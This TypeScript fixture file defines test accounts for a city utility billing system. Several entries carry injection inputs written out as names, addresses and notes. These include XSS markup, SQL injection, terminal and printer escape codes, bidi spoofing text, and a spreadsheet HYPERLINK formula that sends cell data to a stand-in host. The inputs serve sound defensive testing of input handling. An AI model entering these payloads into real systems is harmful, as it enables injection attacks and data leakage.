import type { Account } from '#shared/account.ts';
import { addDays, type BusinessDate } from '#shared/day.ts';
import { displayNumber } from './account-numbers.ts';
import { type Aging, agingTotal } from './billing.ts';

/** An account without what only the ledger knows. */
export type CityAccount = Omit<Account, 'version' | 'asOf' | 'paymentsThrough'>;

/** An account at a known number, for tests and for showing the counter to people. */
export type SpecialAccount = {
  accountNo: string;
  /** Why it is here. */
  about: string;
  account(today: BusinessDate): CityAccount;
};

const NO_FLAGS: Account['flags'] = {
  cashOnly: false,
  noChecks: false,
  cutoffPending: false,
  bankrupt: false,
  paymentPlan: false,
  draft: false,
  bankDraft: false,
};

type Wish = Partial<Omit<CityAccount, 'flags' | 'aging'>> & {
  name: string;
  line1: string;
  aging?: Partial<Aging>;
  flags?: Partial<Account['flags']>;
};

/** Fills what a wish leaves open; past due is everything older than the current bill. */
function special(accountNo: string, about: string, wish: (today: BusinessDate) => Wish): SpecialAccount {
  return {
    accountNo,
    about,
    account(today) {
      const { line1, aging: parts, flags, ...rest } = wish(today);
      const aging: Aging = { currentCents: 0, d30Cents: 0, d60Cents: 0, d90Cents: 0, d120Cents: 0, ...parts };
      const balanceCents = agingTotal(aging);
      return {
        accountNo,
        displayNo: displayNumber(accountNo),
        serviceAddress: { line1, city: 'COPPERAS COVE', zip: '76522' },
        status: 'A',
        balanceCents,
        pastDueCents: balanceCents - aging.currentCents,
        currentDueCents: aging.currentCents,
        dueDate: addDays(today, 9),
        billDate: addDays(today, -12),
        flags: { ...NO_FLAGS, ...flags },
        cycle: '1',
        aging,
        services: [],
        autopay: 'none',
        portal: 'not-registered',
        ...rest,
      };
    },
  };
}

/** Only what every CIS can supply: everything else is unknown. */
const minimal: SpecialAccount = {
  accountNo: '06000101',
  about: 'only the required fields',
  account: () => ({
    accountNo: '06000101',
    displayNo: '06-0001-01',
    name: 'BARE, MINIMUM',
    serviceAddress: { line1: '1 CREEK ST', city: 'COPPERAS COVE', zip: '76522' },
    status: 'A',
    balanceCents: 5_000,
    pastDueCents: 0,
    currentDueCents: 5_000,
    dueDate: null,
    flags: { ...NO_FLAGS },
  }),
};

export const SPECIAL_ACCOUNTS = {
  garcia: special('14640201', 'on the cutoff list; autopay of the former portal', (today) => ({
    name: 'GARCIA, MARIA',
    line1: '1204 N MAIN ST',
    aging: { currentCents: 4_577, d30Cents: 6_440, d60Cents: 3_200 },
    stopCutoffCents: 9_640,
    disconnectDate: addDays(today, 1),
    flags: { cutoffPending: true },
    autopay: 'former-provider',
    aliases: ['000-1464020-005'],
    phone: '(254) 555-0142',
    meters: ['41207733'],
    customerId: '1464020-005',
    lastPayment: { cents: 8_000, date: addDays(today, -47) },
    services: [
      { code: 'WA', desc: 'WATER', cents: 1_364 },
      { code: 'SW', desc: 'SEWER', cents: 1_000 },
      { code: 'DR', desc: 'DRAINAGE', cents: 0 },
      { code: 'GB', desc: 'SOLID WASTE', cents: 2_213 },
    ],
    notes: [
      { at: addDays(today, -400), text: 'Moved in; deposit transferred from 04-1180-02.', by: 'LTRAN' },
      { at: addDays(today, -12), text: 'Says autopay stopped with the new portal. Sent the form by mail.', by: 'JT' },
      { at: addDays(today, -47), text: 'Paid in cash at the counter, asked for a copy of the June bill.' },
    ],
  })),
  mainStreet: special('01030501', '305 S MAIN ST itself', () => ({
    name: 'COPPERAS COVE CITY OF',
    line1: '305 S MAIN ST',
    aging: { currentCents: 21_880 },
    phone: '(254) 555-0305',
    meters: ['30500001', '30500002'],
  })),
  zero: special('02100001', 'owes nothing', () => ({ name: 'ZEPEDA, NORA', line1: '410 W AVENUE D' })),
  credit: special('02100101', 'has credit', () => ({
    name: 'CREDITT, CALVIN',
    line1: '412 W AVENUE D',
    aging: { currentCents: -3_725 },
  })),
  cashOnly: special('03200101', 'personal checks are refused', () => ({
    name: "O'BRIEN, KATHLEEN",
    line1: '77 COURTNEY LN',
    aging: { currentCents: 8_750, d30Cents: 4_110 },
    flags: { cashOnly: true, noChecks: true },
  })),
  agreement: special('03200201', 'pays by agreement', (today) => ({
    name: 'McDONALD, RUTH',
    line1: '901 GEORGETOWN RD',
    aging: { currentCents: 6_100, d60Cents: 12_000, d90Cents: 9_900 },
    agreement: { nextDue: addDays(today, 4), cents: 7_300 },
    flags: { paymentPlan: true },
  })),
  autopay: special('03200301', 'drawn from a bank each month', () => ({
    name: 'SCHÄFER, HEINZ & SOFÍA',
    line1: '2210 FM 1113',
    aging: { currentCents: 11_245 },
    flags: { draft: true, bankDraft: true },
    autopay: 'active',
    portal: 'registered',
  })),
  spanish: special('03200401', 'letters beyond ASCII in every place', () => ({
    name: 'NÚÑEZ-GÜEREÑA, BEGOÑA É',
    line1: '18 RINCÓN DEL NIÑO LN',
    aging: { currentCents: 7_060 },
    mailing: { line1: 'AVENIDA 5 DE MAYO Nº 12', city: 'MÉXICO, D.F.', zip: '06000' },
  })),
  largest: special('03200501', 'the widest amount that a bill can have', () => ({
    name: 'WATERPARK OF CENTRAL TEXAS LP',
    line1: '4400 E BUSINESS 190',
    aging: { currentCents: 99_999_999, d120Cents: 999_900_000_000 },
  })),
  longName: special(
    '04300101',
    'a name of 300 letters, an address of 200, and the longest notes there can be',
    (today) => ({
      name: `${'WOLFESCHLEGELSTEINHAUSENBERGERDORFF '.repeat(8)}HUBERT BLAINE`.slice(0, 300),
      line1: `${'BUILDING 12 NORTH ENTRANCE '.repeat(8)}W BUSINESS 190`.slice(0, 200),
      aging: { currentCents: 6_412 },
      notes: Array.from({ length: 30 }, (_, n) => ({
        at: addDays(today, -n),
        text: `${n + 1}. ${'Asked again for the name to be written out in full on the bill. '.repeat(16)}`.slice(
          0,
          1_000,
        ),
        by: 'W'.repeat(100),
      })),
    }),
  ),
  controlBytes: special('05000101', 'control bytes in the name', () => ({
    name: 'NUL\u0000BEL\u0007, TAB\tLF\nCR\rDEL\u007fC1\u009b',
    line1: '1 HENRY\r\nST',
    aging: { currentCents: 1_001 },
  })),
  escapes: special('05000201', 'commands of a receipt printer and a terminal in the name', () => ({
    name: 'ESC\u001b@\u001bp\u0000\u0019\u00fa, \u001d\u0056\u0041\u0000\u001b[2J\u001b]0;PWNED\u0007',
    line1: '2 HENRY ST \u001b[31m',
    aging: { currentCents: 1_002 },
    notes: [{ at: '2026-01-05', text: 'ESC\u001b[2J\u0000\r\n\u009b', by: '\u001b@' }],
  })),
  bidi: special('05000301', 'text that is shown backwards', () => ({
    name: 'LEVI\u202e00.001$ DIAP\u202c, \u2066ARI\u2069\u200b\ufeff',
    line1: '3 HENRY ST \u202e',
    aging: { currentCents: 1_003 },
    notes: [{ at: '2026-01-05', text: '\u202eSDRAWKCAB NETTIRW', by: '\u202eTJ' }],
  })),
  html: special('05000401', 'markup in the name', () => ({
    name: '<img src=x onerror="globalThis.pwned=1"><b>BOLD</b>, {{7*7}} &amp;',
    line1: '4 HENRY ST <script>globalThis.pwned=1</script>',
    aging: { currentCents: 1_004 },
    notes: [
      {
        at: '2026-01-05',
        text: '<img src=x onerror="globalThis.pwned=1"> {{7*7}} %{x}',
        by: '<script>alert(1)</script>',
      },
      { at: '2026-01-06', text: '' },
    ],
  })),
  quotes: special('05000501', 'SQL in the name', () => ({
    name: `ROBERT'); DROP TABLE account;-- "TABLES", %_*`,
    line1: `5 HENRY ST' OR '1'='1`,
    aging: { currentCents: 1_005 },
  })),
  formula: special('05000601', 'a spreadsheet formula as name', () => ({
    name: `=HYPERLINK("http://x.invalid/?"&A1,"PAID"), @SUM`,
    line1: '+6 HENRY ST',
    aging: { currentCents: 1_006 },
  })),
  emoji: special('05000701', 'pictures, and half of a picture', () => ({
    name: 'PARK 🚰👩‍👩‍👧‍👦🇲🇽, MIN-JI \ufffd',
    line1: '7 HENRY ST 🏠',
    aging: { currentCents: 1_007 },
  })),
  combining: special('05000801', 'letters with many marks, and one written in two ways', () => ({
    name: `Z${'\u0351\u036f'.repeat(40)}ALGO, JOSE\u0301 PEN\u0303A`,
    line1: '8 HENRY ST',
    aging: { currentCents: 1_008 },
  })),
  minimal,
  inactive: special('06000201', 'inactive, owes nothing', () => ({
    name: 'GONE, AWAY',
    line1: '2 CREEK ST',
    status: 'I',
    dueDate: null,
  })),
  finalOwing: special('06000301', 'moved out and still owes the final bill', () => ({
    name: 'FINAL, FRANK',
    line1: '3 CREEK ST',
    status: 'F',
    aging: { d30Cents: 13_377 },
  })),
  finalClosed: special('06000401', 'moved out and owes nothing: payments are refused with account_final', () => ({
    name: 'CLOSED, CLARA',
    line1: '4 CREEK ST',
    status: 'F',
    dueDate: null,
  })),
  bankrupt: special('06000501', 'in bankruptcy', () => ({
    name: 'BANKS, RUPERT',
    line1: '5 CREEK ST',
    aging: { currentCents: 4_000, d120Cents: 80_000 },
    flags: { bankrupt: true },
  })),
  landlordA: special('07000101', "a landlord's first house", () => ({
    name: 'COVE RENTALS LLC',
    line1: '101 N 1ST ST APT 1',
    aging: { currentCents: 5_520 },
    customerId: '0700010-001',
  })),
  landlordB: special('07000201', "a landlord's second house", () => ({
    name: 'COVE RENTALS LLC',
    line1: '101 N 1ST ST APT 2',
    aging: { currentCents: 6_180 },
    customerId: '0700010-001',
  })),
  leak: special('07000301', 'the only one of these with a smart meter: water runs away since three weeks', () => ({
    name: 'BROOKS, DELIA',
    line1: '12 CLARA DR',
    aging: { currentCents: 9_380 },
    meters: ['41990012'],
  })),
} as const satisfies Record<string, SpecialAccount>;

/** The special accounts in the order in which they open the city's list. */
export const SPECIAL_LIST: readonly SpecialAccount[] = Object.values(SPECIAL_ACCOUNTS);
